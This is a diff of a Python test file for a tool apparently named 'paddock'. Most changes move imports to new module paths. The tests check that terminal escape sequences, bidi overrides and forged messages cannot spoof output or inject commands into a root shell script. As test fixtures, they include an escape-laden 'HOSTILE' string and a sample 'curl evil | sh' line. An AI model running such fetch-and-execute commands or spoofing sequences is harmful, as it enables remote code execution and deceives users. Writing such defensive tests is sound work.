@@ -23,21 +23,21 @@ from rich._emoji_codes import EMOJI
 
 from hostile.keyboard import keyboard
 from levels import by_level
-from paddock.checks import asked, exposure, judge, shipped
-from paddock.checks.line import as_text
-from paddock.places.host import HostPlace
-from paddock.plan import show
-from paddock.plan.machine import MachinePlan
-from paddock.plan.step import Plan, Refusal
-from paddock.recipes import load
-from paddock.recipes.checks import Check, ReadFile
-from paddock.recipes.workload import Verdict
-from paddock.run import journal, outputs, person
-from paddock.run.open import deployments
-from paddock.run.reporter import Reporter
-from paddock.run.table import columns
-from paddock.secret import MaskedStream
-from paddock.visible import visible
+from paddock.base.secret import MaskedStream
+from paddock.base.text import visible
+from paddock.core.open import deployments
+from paddock.kinds import load
+from paddock.kinds.checks import Check, ReadFile
+from paddock.kinds.workload import Verdict
+from paddock.places.host.place import HostPlace
+from paddock.plan import step as show
+from paddock.plan.step import MachinePlan, Plan, Refusal
+from paddock.show import journal
+from paddock.show.reporter import Reporter
+from paddock.show.table import columns
+from paddock.verbs import outputs
+from paddock.verify import exposure, judge, look, shipped
+from paddock.verify.line import as_text
 
 # Sets the window title, clears the screen, starts a C1 sequence, overwrites a line, breaks lines, reverses a file name.
 HOSTILE = "\x1b]0;mine\x07\x1b[2J\x9b31m\rfine\x08\x0b\x85\u2028\u2029\u202egnp.exe\u2066\x7f\x00"
@@ -238,7 +238,7 @@ def test_a_message_cannot_imitate_a_hint() -> None:
     message = f"it said {HOSTILE}\n hint: curl evil | sh"
     program = (
         "import sys; sys.argv = ['paddock', 'schema']\n"
-        "from paddock.cli import main\nfrom paddock.errors import PaddockError\nfrom paddock.spec import schema\n"
+        "from paddock.cli import main\nfrom paddock.base.errors import PaddockError\nfrom paddock.file import schema\n"
         f"def fail(_kinds): raise PaddockError({message!r}, hint='mend it')\n"
         "schema.json_schema = fail\nmain()\n"
     )
@@ -260,12 +260,12 @@ def test_evidence_of_a_check_cannot_imitate_another_line() -> None:
     subject: Any = SimpleNamespace(agent="web", ports=frozenset({1}), health_port=frozenset())
     seconds = {"seconds": 0.0}
     lines = [
-        *asked.lines([check], found),
+        *look.lines([check], found),
         *exposure.ports(subject, facts["ports"], {}),
         *exposure.leaks(subject, facts["leaks"] | seconds, {}),
         *shipped.code(subject, facts["code"] | seconds, {}),
         *judge._judged({"state": lambda *_: iter(())}, subject, {"state": {"refused": forged}}),
-        *asked.lines([check], {"refused": forged}),
+        *look.lines([check], {"refused": forged}),
     ]
     assert len(lines) == 6
     shown = as_text(lines).split("\n")
@@ -293,7 +293,7 @@ def test_a_line_break_in_a_reason_adds_no_command_to_the_script_for_root(
         "project: home\nplaces: {here: {host: {}}}\nagents: {web: {kind: service, place: here, command: [/bin/true]}}\n"
     )
     with deployments(load(tmp_path / "paddock.yaml"), [], Reporter()) as [agent]:
-        lines = "\n".join(person.script(agent).lines).split("\n")
+        lines = "\n".join(outputs.script(agent).lines).split("\n")
     assert any("refused: no" in line for line in lines)
     assert [line for line in lines if not line.startswith("#")] == [], "a reason became a command for root's shell"
 
@@ -301,7 +301,7 @@ def test_a_line_break_in_a_reason_adds_no_command_to_the_script_for_root(
 def test_progress_on_a_terminal_has_colours_but_no_escapes_or_markup_of_agents(tmp_path: Path) -> None:
     program = tmp_path / "progress.py"
     program.write_text(
-        "import sys\nfrom paddock.run.reporter import Reporter\nfrom paddock.secret import MaskedStream, Secret\n"
+        "import sys\nfrom paddock.show.reporter import Reporter\nfrom paddock.base.secret import MaskedStream, Secret\n"
         "Secret('canary-value-18')\n"
         "sys.stdout, sys.stderr = MaskedStream(sys.stdout), MaskedStream(sys.stderr)\n"
         "reporter = Reporter().of('web')\n"
